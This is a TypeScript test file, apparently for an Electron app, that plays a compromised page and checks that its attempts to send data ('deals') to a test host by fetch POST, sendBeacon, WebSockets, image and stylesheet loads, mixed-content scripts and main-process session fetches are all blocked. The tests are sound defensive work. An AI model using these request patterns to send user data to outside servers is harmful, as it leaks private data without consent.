import { expect, test } from 'vitest';
import { describeAttacks } from './attacked.ts';

describeAttacks('what comes from a network', (attacked) => {
  test('1. only secure content is loaded: nothing comes from a network, by whatever way it is asked for', async () => {
    const { address, desktop, expectUnharmed, page } = attacked;
    const refused = await page.evaluate(async (host) => {
      const socket = (scheme: string) =>
        new Promise<boolean>((settled) => {
          try {
            const opened = new WebSocket(`${scheme}://${host}/socket`);
            opened.onopen = () => settled(false);
            opened.onerror = () => settled(true);
          } catch {
            settled(true);
          }
        });
      const loaded = (element: HTMLElement) =>
        new Promise<boolean>((settled) => {
          element.onload = () => settled(false);
          element.onerror = () => settled(true);
          document.head.append(element);
        });
      const fetched = (scheme: string) =>
        fetch(`${scheme}://${host}/data`, { method: 'POST', body: 'deals' }).then(
          () => false,
          () => true,
        );
      const style = Object.assign(document.createElement('link'), { rel: 'stylesheet' });
      style.href = `http://${host}/style.css`;
      navigator.sendBeacon(`http://${host}/beacon`, 'deals');
      const picture = Object.assign(new Image(), { src: `http://${host}/picture.png?deals` });
      return Promise.all([
        fetched('http'),
        fetched('https'),
        socket('ws'),
        socket('wss'),
        loaded(style),
        loaded(picture),
      ]);
    }, address);
    expect(refused).toEqual([true, true, true, true, true, true]);

    // The content policy is one wall; what is not the page, and knows no policy, meets the other.
    const answers = await desktop.app.evaluate(async ({ session }, host) => {
      const sessions = [session.defaultSession, session.fromPartition('an attacker’s own')];
      return Promise.all(
        sessions.map((each) =>
          each.fetch(`http://${host}/from-main`).then(
            () => 'answered',
            (error: Error) => error.message,
          ),
        ),
      );
    }, address);
    expect(answers).toEqual(['net::ERR_BLOCKED_BY_CLIENT', 'net::ERR_BLOCKED_BY_CLIENT']);
    await expectUnharmed();
  });

  test('8. no insecure content is let in beside secure content', async () => {
    const { address, expectUnharmed, page, preferences } = attacked;
    const ran = await page.evaluate(
      (host) =>
        new Promise<boolean>((settled) => {
          const script = Object.assign(document.createElement('script'), { src: `http://${host}/mixed.js` });
          script.onload = () => settled(true);
          script.onerror = () => settled(false);
          document.head.append(script);
        }),
      address,
    );
    expect(ran).toBe(false);
    expect(await preferences()).toMatchObject({ allowRunningInsecureContent: false });
    await expectUnharmed();
  });
});
